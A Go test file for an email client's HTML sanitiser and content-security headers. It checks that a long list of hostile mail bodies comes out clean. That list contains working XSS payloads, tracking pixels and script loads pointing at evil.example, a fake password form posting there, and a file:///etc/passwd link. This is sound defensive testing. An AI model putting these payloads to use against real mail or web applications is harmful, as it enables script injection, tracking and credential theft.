package pages

import (
	"net/http"
	"slices"
	"strconv"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// hostileMails are ways in which the HTML of a mail has run scripts, called
// home or left its frame in one mail program or another.
var hostileMails = []string{
	`<script>alert(1)</script>`, `<ScRiPt src=//evil.example/x></ScRiPt>`, `<script/x>alert(1)</script>`, `<<script>script>alert(1)</script>`,
	`<img src=x onerror=alert(1)>`, `<img src="x" onerror="alert(1)"//`, `<img/src/onerror=alert(1)>`, `<img src=https://evil.example/pixel>`,
	`<img srcset="https://evil.example/a 1x">`, `<img src=//evil.example/a>`, `<img src="\\evil.example\a">`, `<img src="ht&#9;tps://evil.example/">`,
	`<image src=https://evil.example/a>`, `<img lowsrc=https://evil.example/a dynsrc=https://evil.example/b>`, `<img src="cid:nobody">`,
	`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`, `<img src="data:text/html,<script>alert(1)</script>">`,
	`<img src=javascript:alert(1)>`, `<img src='https://evil.example/' alt="<img src=x onerror=alert(1)>">`,
	`<a href="javascript:alert(1)">x</a>`, `<a href="java&#10;script:alert(1)">x</a>`, `<a href=" javascript:alert(1)">x</a>`, `<a href="vbscript:x">x</a>`,
	`<a href="data:text/html,x">x</a>`, `<a href="/settings">x</a>`, `<a href="//evil.example" ping="https://evil.example/p">x</a>`, `<a href="blob:x">x</a>`,
	`<a href="file:///etc/passwd">x</a>`, `<a href="https://ok.example" onclick=alert(1) style="position:fixed;top:0;left:0;width:100%;height:100%">x</a>`,
	`<a href="https://ok.example" target=_top>x</a>`, `<area href=javascript:alert(1)>`, `<base href="https://evil.example/">`, `<base target=_top>`,
	`<meta http-equiv=refresh content="0;url=https://evil.example">`, `<meta http-equiv="Content-Security-Policy" content="x">`,
	`<link rel=stylesheet href=https://evil.example/a.css>`, `<link rel=preload as=image href=https://evil.example/a>`, `<link rel="dns-prefetch" href="//evil.example">`,
	`<style>@import url(https://evil.example/a.css);</style>`, `<style>body{background:url(https://evil.example/a)}</style>`, `<style>*{x:expression(alert(1))}</style>`,
	`<div style="background:url(https://evil.example/a)">x</div>`, `<div style="background-image:url('https://evil.example/a')">x</div>`,
	`<div style="list-style-image:url(https://evil.example/a)">x</div>`, `<div style="content:url(https://evil.example/a)">x</div>`,
	`<div style="width:expression(alert(1))">x</div>`, `<div style="behavior:url(#x)">x</div>`, `<div style="-moz-binding:url(https://evil.example)">x</div>`,
	`<div style="color:red;background:\75rl(https://evil.example)">x</div>`, `<div style="position:fixed">x</div>`, `<div style="border-image:url(https://evil.example/a)">x</div>`,
	`<div style="font-family:x;src:url(https://evil.example/a)">x</div>`, `<div style="cursor:url(https://evil.example/a)">x</div>`,
	`<body background=https://evil.example/a onload=alert(1)>x</body>`, `<table background=https://evil.example/a><td background=https://evil.example/b>x</table>`,
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `<svg><image href=https://evil.example/a></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>`, `<svg><style><img src=x onerror=alert(1)></style></svg>`, `<svg><foreignObject><iframe src=//evil.example></foreignObject></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`, `<math href="javascript:alert(1)">x</math>`,
	`<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<iframe src=https://evil.example></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<frameset><frame src=javascript:alert(1)></frameset>`,
	`<object data=https://evil.example/a></object>`, `<embed src=https://evil.example/a>`, `<applet code=x archive=https://evil.example/a></applet>`,
	`<video src=https://evil.example/a autoplay poster=https://evil.example/b></video>`, `<audio src=https://evil.example/a autoplay onplay=alert(1)>`, `<source srcset=https://evil.example/a>`,
	`<track src=https://evil.example/a>`, `<picture><source srcset="https://evil.example/a"><img src=x></picture>`, `<input type=image src=https://evil.example/a>`, `<input autofocus onfocus=alert(1)>`,
	`<form action=https://evil.example><input name=password><button>Sign in</button></form>`, `<button formaction=javascript:alert(1)>x</button>`, `<isindex action=javascript:alert(1) type=image>`,
	`<select onfocus=alert(1) autofocus><option>x</select>`, `<textarea autofocus onfocus=alert(1)>`, `<keygen autofocus onfocus=alert(1)>`, `<details open ontoggle=alert(1)>x</details>`,
	`<marquee onstart=alert(1)>x</marquee>`, `<marquee behavior=x>y</marquee>`, `<blink onclick=alert(1)>x`, `<dialog open onclose=alert(1)>x</dialog>`, `<portal src=https://evil.example>`,
	`<template><script>alert(1)</script></template>`, `<xmp><img src=x onerror=alert(1)></xmp>`, `<plaintext><img src=x onerror=alert(1)>`, `<listing><img src=x onerror=alert(1)></listing>`,
	`<title><img src=x onerror=alert(1)></title>`, `<textarea></textarea><img src=x onerror=alert(1)>`, `<!--><img src=x onerror=alert(1)>-->`, `<!--[if IE]><script>alert(1)</script><![endif]-->`,
	`<![CDATA[<img src=x onerror=alert(1)>]]>`, `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`, `<?import namespace="t" implementation="#default#time2">`,
	`<p title="&quot;><img src=x onerror=alert(1)>">x</p>`, "<p \x00onclick=alert(1)>x</p>", "<img src\x00=x onerror=alert(1)>", `<p/onmouseover=alert(1)>x</p>`, "<p \x0conmouseover=alert(1)>x</p>",
	`<font face="x');alert(1)//" size=9 color="red;x:url(//evil.example)">x</font>`, `<td width="1e9" height="expression(alert(1))">x`, `<ol start="99999999999">x`,
	`<p dir="ltr onclick=alert(1)">x</p>`, `<p id="location" name="cookie" class="notice flash">x</p>`, `<a id=x href="https://ok.example" rel="opener">x</a>`,
	`<div contenteditable onpaste=alert(1)>x</div>`, `<div data-open data-key="n" data-row="1">x</div>`, `<p accesskey=x tabindex=-1 autofocus>x</p>`, `<bdo dir=rtl>x</bdo>`,
	`</body></html><script>alert(1)</script>`, `</style></head><script>alert(1)</script>`, strings.Repeat("<div>", 50000) + `<script>alert(1)</script>`, `<` + strings.Repeat("a ", 100000) + `onload=alert(1)>`,
	`<img src="` + strings.Repeat("x", 1<<20), `<p style="` + strings.Repeat("color:red;", 20000) + `background:url(https://evil.example)">x</p>`,
}

// TestS4_CleanMail: what is left of hostile mail is text and its shape.
func TestS4_CleanMail(t *testing.T) {
	t.Parallel()
	tries := 0
	for _, mail := range hostileMails {
		for _, remote := range []bool{false, true} {
			got := cleanMail(mail, map[string]string{"logo": "data:image/png;base64,aGk="}, remote)
			for _, fault := range mailFaults(got.HTML, remote) {
				t.Errorf("%.120q, remote %v: %s in %.300q", mail, remote, fault, got.HTML)
			}
			tries++
		}
	}
	t.Attr("tries", strconv.Itoa(tries))
}

// mailFaults lists what stands in a cleaned mail and must not.
func mailFaults(clean string, remote bool) (faults []string) {
	allowed := strings.Fields("href src alt align valign dir lang width height colspan rowspan cellpadding cellspacing border start size bgcolor color face style rel target")
	forbidden := strings.Fields("script style link meta base iframe frame frameset object embed applet svg math form input button select textarea video audio source track template noscript xmp plaintext title body html head area")
	z := html.NewTokenizer(strings.NewReader(clean))
	for z.Next() != html.ErrorToken {
		t := z.Token()
		if t.Type != html.StartTagToken && t.Type != html.SelfClosingTagToken {
			continue
		}
		if slices.Contains(forbidden, t.Data) {
			faults = append(faults, "an element "+t.Data)
		}
		for _, a := range t.Attr {
			value := strings.ToLower(a.Val)
			switch {
			case !slices.Contains(allowed, a.Key):
				faults = append(faults, "an attribute "+a.Key)
			case a.Key == "href" && !strings.HasPrefix(value, "https://ok.example"):
				faults = append(faults, "a link to "+a.Val)
			case a.Key == "src" && !strings.HasPrefix(value, "data:image/") && (!remote || !strings.HasPrefix(value, "https://")):
				faults = append(faults, "a picture of "+a.Val)
			case a.Key == "style" && (strings.Contains(value, "url") || strings.Contains(value, "expression") || strings.Contains(value, "position") || strings.Contains(value, `\`)):
				faults = append(faults, "a style "+a.Val)
			case a.Key == "target" && value != "_blank":
				faults = append(faults, "a target "+a.Val)
			case a.Key == "rel" && !strings.Contains(value, "noopener"):
				faults = append(faults, "a link that tells whence")
			}
		}
	}
	return faults
}

func TestMailKeepsItsShape(t *testing.T) {
	t.Parallel()
	pictures := map[string]string{"logo@x": "data:image/png;base64,aGk="}
	for _, tt := range []struct{ in, want string }{
		{`<p style="color: red">Hello <b>you</b></p>`, `<p style="color: red">Hello <b>you</b></p>`},
		{`<table border="1"><tr><td bgcolor="#eeeeee" colspan="2">x</td></tr></table>`, `<table border="1"><tr><td bgcolor="#eeeeee" colspan="2">x</td></tr></table>`},
		{`<a href="https://ok.example/a?b=c&amp;d=e">x</a>`, `<a href="https://ok.example/a?b=c&amp;d=e" rel="nofollow noreferrer noopener" target="_blank">x</a>`},
		{`<img src="cid:logo%40x" alt="Logo" width="20">`, `<img alt="Logo" width="20" src="data:image/png;base64,aGk=">`},
		{`<blockquote>a &lt; b</blockquote>`, `<blockquote>a &lt; b</blockquote>`},
		{`<p dir="rtl">שלום</p><p>চা</p>`, `<p dir="rtl">שלום</p><p>চা</p>`},
		{`a<style>p{color:red}</style>b<title>c</title>d`, `abd`},
	} {
		got := strings.ReplaceAll(cleanMail(tt.in, pictures, false).HTML, ` rel="noreferrer noopener"`, ` rel="nofollow noreferrer noopener"`)
		if got != tt.want {
			t.Errorf("%s becomes\n%s, want\n%s", tt.in, got, tt.want)
		}
	}
}

// TestS5_NothingAsksElsewhere: the document of a mail may load no more than
// its own pictures unless its reader says so.
func TestS5_NothingAsksElsewhere(t *testing.T) {
	mail := `<p>x</p><img src="https://evil.example/pixel"><img src="http://evil.example/2"><img src="//evil.example/3"><a href="https://ok.example">x</a>`
	p := framed(t, Options{API: hostileAPI(mail)})
	tries := 0
	for _, tt := range []struct {
		path, pictures string
		loads          int
	}{
		{"/messages/" + someID + "/body", "img-src data:;", 0},
		{"/messages/" + someID + "/body?images=0", "img-src data:;", 0},
		{"/messages/" + someID + "/body?images=1", "img-src data: https:;", 1},
	} {
		w := ask(p, ada, tt.path, nil, nil)
		h := w.Header()
		for _, want := range []string{"default-src 'none'; ", tt.pictures, "form-action 'none'", "base-uri 'none'", "frame-ancestors 'self'", "sandbox allow-popups allow-popups-to-escape-sandbox"} {
			if !strings.Contains(h.Get("Content-Security-Policy"), want) {
				t.Errorf("%s: policy %q lacks %q", tt.path, h.Get("Content-Security-Policy"), want)
			}
		}
		if strings.Contains(h.Get("Content-Security-Policy"), "script") || h.Get("Referrer-Policy") != "no-referrer" || w.Code != http.StatusOK {
			t.Errorf("%s: %d, %v", tt.path, w.Code, h)
		}
		if got := strings.Count(w.Body.String(), "evil.example"); got != tt.loads {
			t.Errorf("%s loads from evil.example %d times, want %d:\n%s", tt.path, got, tt.loads, w.Body)
		}
		tries++
	}
	page := ask(p, ada, "/messages/"+someID+"?view=html", nil, nil).Body.String()
	for _, want := range []string{`sandbox="allow-popups allow-popups-to-escape-sandbox"`, "3 pictures lie on other servers", `view=html&amp;images=1`, `src="/messages/` + someID + `/body"`} {
		if !strings.Contains(page, want) {
			t.Errorf("the page of the mail lacks %q", want)
		}
	}
	if got := cleanMail(mail, nil, false).Remote; got != 3 {
		t.Errorf("%d pictures of other hosts were found, want 3", got)
	}
	t.Attr("tries", strconv.Itoa(tries))
}

func TestPieces(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		in   string
		want []piece
	}{
		{"see https://a.example/b?c=d, then", []piece{{"see ", ""}, {"https://a.example/b?c=d", "https://a.example/b?c=d"}, {", then", ""}}},
		{"(https://a.example)", []piece{{"(", ""}, {"https://a.example", "https://a.example"}, {")", ""}}},
		{"javascript:alert(1)", []piece{{"javascript:alert(1)", ""}}},
		{"https://", []piece{{"https://", ""}}},
		{"", nil},
	} {
		if got := pieces(tt.in); !slices.Equal(got, tt.want) {
			t.Errorf("pieces(%q) = %+v, want %+v", tt.in, got, tt.want)
		}
	}
	var whole strings.Builder
	text := strings.Repeat("x https://a.example/ü?<b> ", 1000)
	for _, p := range pieces(text) {
		whole.WriteString(p.Text)
	}
	if whole.String() != strings.TrimSpace(text) {
		t.Error("a text is not the same in pieces")
	}
}
